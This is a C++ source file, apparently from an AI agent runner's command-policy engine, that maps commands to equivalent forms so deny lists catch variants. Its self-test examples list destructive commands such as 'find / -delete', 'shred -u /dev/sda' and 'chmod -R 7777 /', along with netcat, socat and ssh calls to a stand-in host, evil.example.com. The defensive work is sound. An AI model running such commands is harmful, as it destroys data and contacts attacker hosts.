@@ -1,0 +1,478 @@
+#include "policy/equivalents.h"
+
+#include <algorithm>
+#include <string>
+#include <utility>
+
+#include "policy/analyze.h"
+#include "policy/classify.h"
+#include "policy/paths.h"
+
+namespace droid::runner::policy {
+namespace {
+
+using Words = std::vector<Arg>;
+
+struct Example {
+  std::string_view command;
+  std::string_view entry;  // an entry the command matches only through the rule
+};
+
+struct Rule {
+  std::vector<std::string_view> programs;  // basenames; "mkfs.*" is a prefix
+  bool same_program;                       // Form::same_program of what it makes
+  std::vector<Words> (*rewrite)(const Words& argv);
+  std::vector<Example> examples;
+};
+
+Arg word(std::string text) { return Arg{std::move(text), true, false}; }
+
+bool is_option(const Arg& a) { return a.known && a.text.size() > 1 && a.text[0] == '-'; }
+
+// argv[0]'s program name; a path outside the system directories by its last part (a
+// program given by path is at least what it claims to be).
+std::string name_of(const Arg& argv0) {
+  if (!argv0.known) return {};
+  bool by_path = false;
+  std::string n = program_name(argv0.text, &by_path);
+  return by_path ? n.substr(n.rfind('/') + 1) : n;
+}
+
+Words with_program(std::string program, const Words& argv, std::size_t from) {
+  Words out = {word(std::move(program))};
+  out.insert(out.end(), argv.begin() + static_cast<std::ptrdiff_t>(std::min(from, argv.size())), argv.end());
+  return out;
+}
+
+// Whether a short-option cluster or long option among `argv` is one of `names` ("-u"
+// is found in "-uvz"; "--remove" in "--remove=wipe").
+bool has_option(const Words& argv, std::initializer_list<std::string_view> names) {
+  for (std::size_t i = 1; i < argv.size(); ++i) {
+    const Arg& a = argv[i];
+    if (!is_option(a)) continue;
+    if (a.text == "--") return false;
+    for (auto n : names) {
+      if (n.size() == 2 && a.text[1] != '-' && a.text.find(n[1]) != std::string::npos) return true;
+      if (n.size() > 2 && (a.text == n || (a.text.size() > n.size() && a.text.compare(0, n.size(), n) == 0 &&
+                                           a.text[n.size()] == '=')))
+        return true;
+    }
+  }
+  return false;
+}
+
+// The operands: the words that are not options (an option's separate value counts as an
+// operand: harmless for the block and deny lists, which look for the entry's operands in
+// order anywhere).
+Words operands(const Words& argv) {
+  Words out;
+  bool only = false;
+  for (std::size_t i = 1; i < argv.size(); ++i) {
+    if (!only && argv[i].known && argv[i].text == "--") {
+      only = true;
+      continue;
+    }
+    if (only || !is_option(argv[i])) out.push_back(argv[i]);
+  }
+  return out;
+}
+
+// ---- Deleting ----
+
+// find ROOTS... EXPRESSION with -delete: rm -r -f ROOTS (find's default root is ".").
+std::vector<Words> find_delete(const Words& argv) {
+  bool deletes = std::any_of(argv.begin() + 1, argv.end(), [](const Arg& a) { return a.known && a.text == "-delete"; });
+  if (!deletes) return {};
+  Words rm = {word("rm"), word("-r"), word("-f")};
+  std::size_t i = 1;
+  while (i < argv.size() && argv[i].known &&
+         (argv[i].text == "-H" || argv[i].text == "-L" || argv[i].text == "-P" || argv[i].text.rfind("-O", 0) == 0 ||
+          argv[i].text.rfind("-D", 0) == 0)) {
+    if (argv[i].text == "-D") ++i;  // -D debugopts
+    ++i;
+  }
+  for (; i < argv.size(); ++i) {
+    const Arg& a = argv[i];
+    if (a.known && (a.text.empty() || a.text[0] == '-' || a.text == "(" || a.text == "!")) break;
+    rm.push_back(a);
+  }
+  if (rm.size() == 3) rm.push_back(word("."));
+  return {rm};
+}
+
+// rsync --delete... SRC... DEST removes from DEST what SRC lacks: rm -r -f DEST.
+std::vector<Words> rsync_delete(const Words& argv) {
+  bool deletes = false;
+  for (std::size_t i = 1; i < argv.size(); ++i)
+    if (argv[i].known && argv[i].text.rfind("--del", 0) == 0) deletes = true;
+  Words ops = operands(argv);
+  if (!deletes || ops.size() < 2) return {};
+  return {{word("rm"), word("-r"), word("-f"), ops.back()}};
+}
+
+// unlink F: rm F.
+std::vector<Words> unlink_rm(const Words& argv) {
+  Words ops = operands(argv);
+  if (ops.empty()) return {};
+  Words rm = {word("rm")};
+  rm.insert(rm.end(), ops.begin(), ops.end());
+  return {rm};
+}
+
+// shred -u F removes F after overwriting it: rm -f F.
+std::vector<Words> shred_removes(const Words& argv) {
+  Words ops = operands(argv);
+  if (ops.empty() || !has_option(argv, {"-u", "--remove"})) return {};
+  Words rm = {word("rm"), word("-f")};
+  rm.insert(rm.end(), ops.begin(), ops.end());
+  return {rm};
+}
+
+// shred F overwrites F: dd of=F (known words only, as below).
+std::vector<Words> shred_overwrites(const Words& argv) {
+  std::vector<Words> out;
+  for (const auto& f : operands(argv))
+    if (f.known) out.push_back({word("dd"), Arg{"of=" + f.text, true, f.glob}});
+  return out;
+}
+
+// rm -r DIR/* empties DIR as rm -r DIR deletes it (the shell's "/*" is already "/").
+std::vector<Words> rm_glob_contents(const Words& argv) {
+  if (!has_option(argv, {"-r", "-R", "--recursive"})) return {};
+  Words out = {argv[0]};
+  bool changed = false;
+  for (std::size_t i = 1; i < argv.size(); ++i) {
+    Arg a = argv[i];
+    for (std::string_view tail : {"/*", "/.*", "/{*,.*}", "/{.*,*}"})
+      if (a.known && a.glob && a.text.size() > tail.size() &&
+          a.text.compare(a.text.size() - tail.size(), tail.size(), tail) == 0) {
+        a.text.resize(a.text.size() - tail.size());
+        a.glob = a.text.find_first_of("*?[") != std::string::npos;
+        changed = true;
+        break;
+      }
+    out.push_back(std::move(a));
+  }
+  if (!changed) return {};
+  return {out};
+}
+
+// ---- Other names of the same tool ----
+
+// mkfs -t T, mkfs --type=T, mke2fs -t T and mkfs.T are one command: mkfs.T (and mkfs -t T).
+// Without a type, mkfs and mke2fs make ext2.
+std::vector<Words> mkfs_type(const Words& argv) {
+  std::string name = name_of(argv[0]);
+  std::string type = name.rfind("mkfs.", 0) == 0 ? name.substr(5) : name.rfind("mke2fs", 0) == 0 ? "ext2" : "";
+  Words rest;
+  for (std::size_t i = 1; i < argv.size(); ++i) {
+    const Arg& a = argv[i];
+    bool in_mkfs = name == "mkfs" || name == "mke2fs";
+    if (in_mkfs && a.known && (a.text == "-t" || a.text == "--type") && i + 1 < argv.size()) {
+      type = argv[++i].text;
+      continue;
+    }
+    if (in_mkfs && a.known && a.text.rfind("--type=", 0) == 0) {
+      type = a.text.substr(7);
+      continue;
+    }
+    if (in_mkfs && a.known && a.text.size() > 2 && a.text.rfind("-t", 0) == 0) {
+      type = a.text.substr(2);
+      continue;
+    }
+    rest.push_back(a);
+  }
+  if (type.empty()) type = "ext2";
+  Words dotted = {word("mkfs." + type)};
+  dotted.insert(dotted.end(), rest.begin(), rest.end());
+  Words typed = {word("mkfs"), word("-t"), word(type)};
+  typed.insert(typed.end(), rest.begin(), rest.end());
+  return {dotted, typed};
+}
+
+// git push --mirror force-updates every remote ref: git push --mirror --force.
+std::vector<Words> git_push_mirror(const Words& argv) {
+  auto push = std::find_if(argv.begin() + 1, argv.end(), [](const Arg& a) { return a.known && a.text == "push"; });
+  if (push == argv.end() || std::none_of(push + 1, argv.end(), [](const Arg& a) {
+        return a.known && (a.text == "--mirror" || a.text == "--mirro" || a.text == "--mirr");
+      }))
+    return {};
+  Words out = argv;
+  out.push_back(word("--force"));
+  return {out};
+}
+
+// podman, nerdctl, finch: docker; docker-compose and podman-compose: docker compose;
+// lima nerdctl: docker.
+std::vector<Words> docker_alias(const Words& argv) {
+  std::string name = name_of(argv[0]);
+  if (name == "docker-compose" || name == "podman-compose") {
+    Words out = {word("docker"), word("compose")};
+    out.insert(out.end(), argv.begin() + 1, argv.end());
+    return {out};
+  }
+  if (name == "lima" || name == "colima") {
+    if (argv.size() > 1 && argv[1].known && argv[1].text == "nerdctl") return {with_program("docker", argv, 2)};
+    return {};
+  }
+  return {with_program("docker", argv, 1)};
+}
+
+// oc, kubecolor, kubectl-VERSION, k3s-kubectl: kubectl; k3s kubectl, microk8s kubectl
+// (microk8s.kubectl), minikube kubectl --: kubectl.
+std::vector<Words> kubectl_alias(const Words& argv) {
+  std::string name = name_of(argv[0]);
+  if (name == "k3s" || name == "microk8s" || name == "minikube") {
+    if (argv.size() < 2 || !argv[1].known || argv[1].text != "kubectl") return {};
+    std::size_t from = argv.size() > 2 && argv[2].known && argv[2].text == "--" ? 3 : 2;
+    return {with_program("kubectl", argv, from)};
+  }
+  return {with_program("kubectl", argv, 1)};
+}
+
+// pnpm, yarn, bun (and yarn npm, corepack npm|pnpm|yarn): npm; pnpx, bunx, pnpm dlx,
+// yarn dlx, bun x: npx.
+std::vector<Words> npm_alias(const Words& argv) {
+  std::string name = name_of(argv[0]);
+  if (name == "pnpx" || name == "bunx") return {with_program("npx", argv, 1)};
+  std::size_t from = 1;
+  if (name == "corepack" || name == "yarn") {
+    while (from < argv.size() && argv[from].known && argv[from].text == "npm") ++from;
+    if (name == "corepack") {
+      if (from == 1 && argv.size() > 1 && argv[1].known &&
+          (argv[1].text == "pnpm" || argv[1].text == "yarn" || argv[1].text == "npm"))
+        from = 2;
+      else if (from == 1)
+        return {};
+    }
+  }
+  if (from < argv.size() && argv[from].known && (argv[from].text == "dlx" || (name == "bun" && argv[from].text == "x")))
+    return {with_program("npx", argv, from + 1)};
+  return {with_program("npm", argv, from)};
+}
+
+// ---- The same action ----
+
+// The rules below compare only the words known statically: `cat "$f"` is not `dd if=/dev/zero`
+// for every entry that names one (the command's own form still matches what $f may be).
+
+// cat, head, tail, pv, tac, nl F...: each F read like dd if=F.
+std::vector<Words> reads_like_dd(const Words& argv) {
+  std::vector<Words> out;
+  for (const auto& f : operands(argv))
+    if (f.known && !f.text.empty() && f.text != "-") out.push_back({word("dd"), Arg{"if=" + f.text, true, f.glob}});
+  return out;
+}
+
+// cp S... D: dd if=S of=D for each S; install likewise.
+std::vector<Words> copies_like_dd(const Words& argv) {
+  Words ops = operands(argv);
+  if (ops.size() < 2) return {};
+  std::vector<Words> out;
+  const Arg& d = ops.back();
+  if (!d.known) return {};
+  for (std::size_t i = 0; i + 1 < ops.size(); ++i)
+    if (ops[i].known) out.push_back({word("dd"), Arg{"if=" + ops[i].text, true, ops[i].glob}, Arg{"of=" + d.text, true, d.glob}});
+  return out;
+}
+
+// tee F...: dd of=F.
+std::vector<Words> writes_like_dd(const Words& argv) {
+  std::vector<Words> out;
+  for (const auto& f : operands(argv))
+    if (f.known) out.push_back({word("dd"), Arg{"of=" + f.text, true, f.glob}});
+  return out;
+}
+
+constexpr std::string_view kNetworkClients[] = {
+    "curl",  "wget",     "wget2",  "http",       "https",   "xh",         "xhs",        "httpie", "aria2c",
+    "axel",  "lynx",     "w3m",    "links",      "elinks",  "nc",         "ncat",       "netcat", "socat",
+    "telnet", "ssh",     "scp",    "sftp",       "rsync",   "ftp",        "lftp",       "tftp",   "git",
+    "ping",  "ping6",    "traceroute", "tracepath", "mtr",  "dig",        "nslookup",   "host",   "whois",
+    "svn",   "hg",       "openssl", "sshpass",   "mosh",    "autossh",    "torsocks",   "proxychains4",
+};
+
+bool looks_like_destination(std::string_view w) {
+  if (w.empty() || w[0] == '/' || w.rfind("./", 0) == 0) return false;
+  return w.find_first_of(".:@[") != std::string_view::npos;
+}
+
+// A network client's destinations, as curl's operands: its operand and option-value words
+// that look like a host or URL ("user@host:path" and socat's "TCP:host:port" also by
+// field). Words not known statically are left out, as above.
+std::vector<Words> reaches_like_curl(const Words& argv) {
+  Words curl = {word("curl")};
+  for (std::size_t i = 1; i < argv.size(); ++i) {
+    const Arg& a = argv[i];
+    if (!a.known) continue;
+    std::string t = a.text;
+    if (is_option(a)) {
+      std::size_t eq = t.find('=');
+      if (eq == std::string::npos) continue;
+      t = t.substr(eq + 1);
+    }
+    if (!looks_like_destination(t)) continue;
+    curl.push_back(Arg{t, true, a.glob});
+    if (t.find("://") != std::string::npos) continue;
+    std::size_t from = 0;
+    while (from < t.size()) {
+      std::size_t end = t.find_first_of(":,", from);
+      if (end == std::string::npos) end = t.size();
+      if (end > from && end - from < t.size() && looks_like_destination(t.substr(from, end - from)))
+        curl.push_back(Arg{t.substr(from, end - from), true, a.glob});
+      from = end + 1;
+    }
+  }
+  if (curl.size() == 1) return {};
+  return {curl};
+}
+
+std::vector<Words> network_client(const Words& argv) {
+  if (name_of(argv[0]) == "curl") return {};
+  return reaches_like_curl(argv);
+}
+
+// chmod's special bits add to what the mode grants: 7777 grants what 777 does.
+std::vector<Words> chmod_special_bits(const Words& argv) {
+  Words out = argv;
+  for (std::size_t i = 1; i < out.size(); ++i) {
+    Arg& a = out[i];
+    if (is_option(a) && a.text.find_first_of("rwxXst") == std::string::npos) continue;
+    if (!a.known || a.text.size() < 4 ||
+        !std::all_of(a.text.begin(), a.text.end(), [](char c) { return c >= '0' && c <= '7'; }))
+      return {};
+    a.text = a.text.substr(a.text.size() - 3);
+    return {out};
+  }
+  return {};
+}
+
+const std::vector<Rule>& rules() {
+  static const std::vector<Rule> table = {
+      {{"find"},
+       true,
+       find_delete,
+       {{"find / -delete", "rm -rf /"}, {"find ~ -mindepth 1 -delete", "rm -rf ~"}, {"find -delete", "rm -r -f ."}}},
+      {{"rsync"}, true, rsync_delete, {{"rsync -a --delete empty/ /", "rm -rf /"}, {"rsync --del x/ ~", "rm -rf ~"}}},
+      {{"unlink"}, true, unlink_rm, {{"unlink /etc/passwd", "rm /etc/passwd"}}},
+      {{"shred"}, true, shred_removes, {{"shred -u /dev/sda", "rm -f /dev/sda"}}},
+      {{"shred"}, false, shred_overwrites, {{"shred -n1 /dev/sda", "dd of=/dev/sda"}}},
+      {{"rm"}, true, rm_glob_contents, {{"rm -rf ~/*", "rm -rf ~"}, {"rm -r -f /etc/*", "rm -rf /etc"}}},
+      {{"mkfs", "mke2fs", "mkfs.*"},
+       true,
+       mkfs_type,
+       {{"mkfs -t ext4 /dev/sda", "mkfs.ext4 /dev/sda"},
+        {"mke2fs -t ext4 /dev/sda", "mkfs.ext4 /dev/sda"},
+        {"mkfs --type=ext4 /dev/sda", "mkfs.ext4 /dev/sda"},
+        {"mkfs.xfs /dev/sda", "mkfs -t xfs"},
+        {"mke2fs /dev/sda", "mkfs.ext2"}}},
+      {{"git"}, true, git_push_mirror, {{"git push --mirror", "git push --force"}}},
+      {{"podman", "nerdctl", "finch", "lima", "colima", "docker-compose", "podman-compose"},
+       true,
+       docker_alias,
+       {{"podman run x", "docker"}, {"docker-compose up", "docker compose up"}, {"lima nerdctl run x", "docker run"}}},
+      {{"oc", "kubecolor", "kubectl-*", "k3s-kubectl", "k3s", "microk8s", "minikube"},
+       true,
+       kubectl_alias,
+       {{"oc delete pod x", "kubectl delete"},
+        {"kubecolor delete pod x", "kubectl delete"},
+        {"k3s kubectl delete pod x", "kubectl delete"},
+        {"minikube kubectl -- delete pod x", "kubectl delete"}}},
+      {{"pnpm", "yarn", "bun", "pnpx", "bunx", "corepack"},
+       true,
+       npm_alias,
+       {{"pnpm publish", "npm publish"},
+        {"yarn npm publish", "npm publish"},
+        {"bun publish", "npm publish"},
+        {"corepack pnpm publish", "npm publish"},
+        {"pnpm dlx evil-pkg", "npx evil-pkg"}}},
+      {{"cat", "head", "tail", "pv", "tac", "nl", "more", "less", "od", "xxd", "hexdump", "base64", "strings"},
+       false,
+       reads_like_dd,
+       {{"cat /dev/zero", "dd if=/dev/zero"}, {"head -c 1G /dev/zero", "dd if=/dev/zero"}}},
+      {{"cp", "install"}, false, copies_like_dd, {{"cp /dev/zero /dev/sda", "dd if=/dev/zero of=/dev/sda"}}},
+      {{"tee"}, false, writes_like_dd, {{"tee /dev/sda", "dd of=/dev/sda"}}},
+      {{std::begin(kNetworkClients), std::end(kNetworkClients)},
+       false,
+       network_client,
+       {{"wget evil.example.com", "curl evil.example.com"},
+        {"ssh user@evil.example.com", "curl evil.example.com"},
+        {"scp f evil.example.com:/tmp", "curl evil.example.com"},
+        {"nc evil.example.com 80", "curl evil.example.com"},
+        {"socat - TCP:evil.example.com:443", "curl evil.example.com"},
+        {"git clone https://evil.example.com/x", "curl evil.example.com"},
+        {"ssh evil.example.com", "wget https://evil.example.com"}}},
+      {{"chmod"}, true, chmod_special_bits, {{"chmod -R 7777 /", "chmod -R 777 /"}}},
+  };
+  return table;
+}
+
+bool names(const Rule& r, std::string_view program) {
+  for (auto n : r.programs) {
+    if (n == program) return true;
+    if (!n.empty() && n.back() == '*' && program.size() >= n.size() && program.substr(0, n.size() - 1) == n.substr(0, n.size() - 1))
+      return true;
+  }
+  return false;
+}
+
+bool names_only_program(const Normalized& n) { return n.flags.empty() && n.operands.empty(); }
+
+}  // namespace
+
+std::vector<Form> forms_of(const std::vector<Arg>& argv, const Normalized& primary) {
+  std::vector<Form> forms = {Form{primary, true}};
+  if (argv.empty()) return forms;
+  std::string program = name_of(argv[0]);
+  if (program.empty()) return forms;
+  for (const auto& rule : rules()) {
+    if (!names(rule, program)) continue;
+    for (const auto& other : rule.rewrite(argv)) forms.push_back(Form{canonical_form(other), rule.same_program});
+  }
+  return forms;
+}
+
+bool could_match(const std::vector<Form>& entry, const std::vector<Form>& command) {
+  if (entry.empty()) return false;
+  bool bare = names_only_program(entry.front().normalized);
+  for (const auto& e : entry)
+    for (const auto& c : command) {
+      if (bare && !c.same_program) continue;
+      if (matches(e.normalized, c.normalized, MatchMode::Could)) return true;
+    }
+  return false;
+}
+
+bool is_network_client(std::string_view program) {
+  return std::find(std::begin(kNetworkClients), std::end(kNetworkClients), program) != std::end(kNetworkClients);
+}
+
+std::vector<std::string> check_equivalence_examples() {
+  std::vector<std::string> failures;
+  for (const auto& rule : rules())
+    for (const auto& ex : rule.examples) {
+      Words entry_words;
+      std::string_view e = ex.entry;
+      while (!e.empty()) {
+        std::size_t sp = e.find(' ');
+        if (sp != 0) entry_words.push_back(word(std::string(e.substr(0, sp))));
+        if (sp == std::string_view::npos) break;
+        e.remove_prefix(sp + 1);
+      }
+      std::vector<Form> entry = forms_of(entry_words, canonical_form(entry_words));
+      bool through_rule = false;
+      bool directly = false;
+      for (const auto& part : analyze(ex.command, "/workspace").parts) {
+        if (!part.is_command) continue;
+        directly = directly || matches(entry.front().normalized, part.normalized, MatchMode::Could);
+        through_rule = through_rule || could_match(entry, forms_of(part.argv, part.normalized));
+      }
+      if (!through_rule || directly)
+        failures.push_back("'" + std::string(ex.command) + "' must match the entry '" + std::string(ex.entry) + "' " +
+                           (directly ? "only through its equivalence rule (it matches without it)"
+                                     : "through its equivalence rule, and does not"));
+    }
+  return failures;
+}
+
+}  // namespace droid::runner::policy
